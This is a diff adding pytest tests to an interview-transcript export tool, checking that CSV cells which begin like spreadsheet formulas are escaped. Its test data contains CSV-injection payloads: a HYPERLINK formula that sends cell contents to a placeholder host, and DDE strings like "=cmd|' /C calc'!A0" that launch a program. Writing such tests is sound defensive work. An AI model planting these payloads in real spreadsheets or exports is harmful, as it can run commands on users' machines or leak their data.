@@ -555,3 +555,33 @@ def test_interview_without_segments_still_gets_its_files(tmp_path):
     assert len(paths) == 10
     assert read_nvivo((tmp_path / "silent" / "silent.nvivo.txt").read_bytes()) == []
     assert read_qdpx(tmp_path / "project.qdpx").interviews["silent"].segments == []
+
+
+# Cells a spreadsheet would evaluate (OWASP "CSV Injection"), English and Danish.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?q="&A1,"Click here")',
+    '=HYPERLINK("http://eksempel.invalid";"Klik her for at se mere")',
+    "+45 12 34 56 78",
+    "-Ja, det tror jeg nok",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_would_start_a_formula_are_neutralised(text):
+    t = nasty_transcript(text)
+    t.speakers[1] = Speaker("=cmd|' /C calc'!A0", "@Søren")
+    t.segments[1].speaker = "=cmd|' /C calc'!A0"
+    rows = list(csv.reader(io.StringIO(render("csv", t).decode("utf-8"), newline="")))
+    row = rows[2]
+    assert row[6] == "'" + text and row[5] == "'@Søren" and row[4] == "'=cmd|' /C calc'!A0"
+    for r in rows[1:]:  # no cell of any row starts a formula
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r), r
+
+
+def test_csv_keeps_ordinary_text_and_numbers_unchanged():
+    t = nasty_transcript("Det var 3-4 år siden, ca. -5 grader.")
+    row = list(csv.reader(io.StringIO(render("csv", t).decode("utf-8"), newline="")))[2]
+    assert row[1:4] == ["1", "1.260", "2.340"] and row[6] == "Det var 3-4 år siden, ca. -5 grader."
